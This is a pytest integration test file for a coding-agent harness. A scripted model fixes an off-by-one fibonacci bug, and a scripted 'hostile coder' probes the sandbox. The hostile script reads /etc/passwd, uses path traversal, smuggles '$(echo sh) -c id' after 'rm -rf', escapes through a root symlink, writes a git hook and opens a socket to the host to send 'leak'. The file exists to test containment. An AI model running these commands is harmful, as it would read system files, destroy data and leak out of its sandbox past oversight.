"""The ``code`` agent through real worker processes, Redis, Docker and SQLite; the model
is ``tests/llm_api.py``, reached by the real openai client over HTTP.

The consistency loop (a first attempt that breaks a test is sent back; a coder that
never fixes it pauses the run with the evidence) and a hostile coder (reads outside the
workspace, the network, a command that runs forever, writes into ``.git``).
"""

from __future__ import annotations

import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from tests.bot.test_cli_run import ROOT
from tests.llm_api import LLMAPI, tool_calls
from tests.services import bridge_gateway
from tests.workers.conftest import Env

pytestmark = pytest.mark.docker

KEY = "sk-test-coder-0123456789"
OPS = (ROOT / "examples" / "calc" / "calc" / "ops.py").read_text()
FIB = '''

def fibonacci(n: int) -> int:
    """The nth Fibonacci number: fibonacci(0) == 0, fibonacci(1) == 1."""
    if n < 0:
        raise ValueError("n must be at least 0")
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
'''
BROKEN_FIB = FIB.replace("return a", "return b")  # off by one: fibonacci(0) == 1
FIB_TEST = """from calc.ops import fibonacci


def test_fibonacci() -> None:
    assert [fibonacci(n) for n in range(8)] == [0, 1, 1, 2, 3, 5, 8, 13]
"""


def _playbook(env: Env, *, fix_rounds: int = 2, timeout_s: int = 60, allowlist: str = "[]") -> None:
    env.playbook(
        "coder",
        f"""
name: coder
on_failure: fail
allowlist: {allowlist}
steps:
  - id: code
    agent: code
    timeout_s: {timeout_s}
    with:
      task: Add a function fibonacci(n) to calc/ops.py, with a test.
      fix_rounds: {fix_rounds}
""",
    )


@pytest.fixture
def api(env: Env) -> Iterator[LLMAPI]:
    with LLMAPI(api_key=KEY) as server:
        llm = {
            "FIRSTMATE_LLM": "openai:gpt-4o-mini",
            "OPENAI_API_KEY": KEY,
            "OPENAI_BASE_URL": server.openai_url,
        }
        env.workers.env.update(llm)
        yield server


def _submit(env: Env, tmp_path: Path) -> str:
    repo = tmp_path / "repo"
    shutil.copytree(ROOT / "examples" / "calc", repo)
    return env.rt.engine.submit(env.rt.catalog.get("coder"), repo=repo, approve_plan=False)


def test_a_first_attempt_that_breaks_a_test_is_sent_back_and_fixed(
    env: Env, api: LLMAPI, tmp_path: Path
) -> None:
    _playbook(env)
    api.script(
        tool_calls(("read_file", {"path": "calc/ops.py"})),
        tool_calls(
            ("write_file", {"path": "calc/ops.py", "content": OPS + BROKEN_FIB}),
            ("write_file", {"path": "tests/test_fib.py", "content": FIB_TEST}),
        ),
        tool_calls(("finish", {"summary": "Added fibonacci(n)."})),
        # The loop sends the failure back; the second attempt fixes the function.
        tool_calls(("write_file", {"path": "calc/ops.py", "content": OPS + FIB})),
        tool_calls(("run", {"command": "python3 -m pytest -q"})),
        tool_calls(("finish", {"summary": "Added fibonacci(n), off-by-one fixed."})),
    )
    env.workers.start(1)
    run_id = _submit(env, tmp_path)
    report = env.finished(run_id)
    assert report.status == "succeeded", report
    [step] = report.steps
    out = step.outputs
    assert out["fix_rounds"] == 1
    assert out["tests"]["category"] == "passed" and out["tests"]["passed"] == 5
    assert "def fibonacci" in out["diff"] and "return a" in out["diff"]
    assert sorted(out["files_changed"]) == ["calc/ops.py", "tests/test_fib.py"]
    # What the model was told after its first finish: the failing test, by name.
    fed_back = api.requests("openai")[3].body["messages"][-1]["content"]
    assert "test_fibonacci" in fed_back and "still do not pass" in fed_back
    events = [e for e in report.events or [] if e.step == "code"]
    kinds = [e.type for e in events]
    assert kinds.count("step.expected") == 1
    observed = [e.data for e in events if e.type == "step.observed"]
    assert [o["matches"] for o in observed] == [False, True]
    tools = [e.data["tool"] for e in events if e.type == "tool.call"]
    first = ["read_file", "write_file", "write_file", "finish"]
    assert tools == [*first, "write_file", "run", "finish"]
    assert kinds.count("llm.call") == 6


def test_a_coder_that_never_fixes_it_pauses_the_run_with_the_failing_output(
    env: Env, api: LLMAPI, tmp_path: Path
) -> None:
    _playbook(env, fix_rounds=1)
    broken = tool_calls(
        ("write_file", {"path": "calc/ops.py", "content": OPS + BROKEN_FIB}),
        ("write_file", {"path": "tests/test_fib.py", "content": FIB_TEST}),
    )
    done = tool_calls(("finish", {"summary": "Done."}))
    api.script(broken, done, broken, done)
    env.workers.start(1)
    run_id = _submit(env, tmp_path)
    report = env.finished(run_id)
    assert report.status == "paused"  # not failed, though the playbook says on_failure: fail
    [step] = report.steps
    assert step.status == "failed"
    assert "test_fibonacci" in (step.error or "")
    [checkpoint] = [c for c in report.checkpoints or [] if c.decided_at is None]
    assert checkpoint.kind == "failure" and "test_fibonacci" in checkpoint.prompt
    assert "assert" in checkpoint.prompt  # the assertion message: the evidence
    assert step.outputs["fix_rounds"] == 1
    assert len(api.requests("openai")) == 4  # sent back once, then it stopped


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on every host interface: a sandbox that reached it would show here."""
    server = socket.create_server(("0.0.0.0", 0))
    server.settimeout(0.2)
    seen: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            seen.append(conn.recv(100) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


def test_a_hostile_coder_is_contained_and_reported(
    env: Env,
    api: LLMAPI,
    tmp_path: Path,
    listener: tuple[int, list[bytes]],
    docker_client: docker.DockerClient,
) -> None:
    port, seen = listener
    gateway = bridge_gateway(docker_client)  # this machine, as a container sees it
    reach = (
        f"python3 -c \"import socket; s = socket.create_connection(('{gateway}', {port}),"
        " timeout=3); s.sendall(b'leak')\""
    )
    _playbook(env, timeout_s=20, allowlist="[ln]")  # ln: only this playbook allows it
    api.script(
        tool_calls(("read_file", {"path": "/etc/passwd"})),
        tool_calls(("read_file", {"path": "../../etc/hostname"})),
        tool_calls(("run", {"command": "ls && rm -rf calc; X=1 $(echo sh) -c id"})),
        tool_calls(("run", {"command": "ln -s / escape"})),
        tool_calls(("read_file", {"path": "escape/etc/passwd"})),
        tool_calls(("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh"})),
        tool_calls(("run", {"command": reach})),
        tool_calls(("run", {"command": "sleep 600"})),
        tool_calls(("finish", {"summary": "nothing"})),
    )
    env.workers.start(1)
    run_id = _submit(env, tmp_path)
    report = env.finished(run_id, timeout=90)
    [step] = report.steps
    assert seen == []  # nothing reached the host from the sandbox
    refused = step.outputs["refused"]
    tools = ["read_file", "read_file", "run", "read_file", "write_file"]
    assert [r["tool"] for r in refused] == tools, refused
    assert "outside the workspace" in refused[0]["reason"]
    assert refused[2]["reason"].startswith(
        "outside the command allowlist: command substitution $(…), `rm` (a person adds"
    )
    assert "leads outside" in refused[3]["reason"]
    brief = api.requests("openai")[0].body["messages"][-1]["content"]
    assert "only these commands" in brief and ", ln, " in brief and " rm," not in brief
    calls = [e.data for e in report.events or [] if e.type == "tool.call"]
    runs = [c for c in calls if c["tool"] == "run"]
    assert runs[0]["refused"] and "exit_code" not in runs[0]  # refused before it ran
    assert runs[1]["exit_code"] == 0  # ln, allowed by the playbook
    assert runs[2]["exit_code"] != 0  # no route out
    assert runs[3]["timed_out"] is True  # killed at the step's deadline, not 600 s later
    # The run is not lost: the step's time ran out, the tests still pass, it succeeded
    # and reported what it refused.
    assert step.outputs["ended_by"] == "time_limit"
    assert report.status == "succeeded" and step.status == "succeeded"
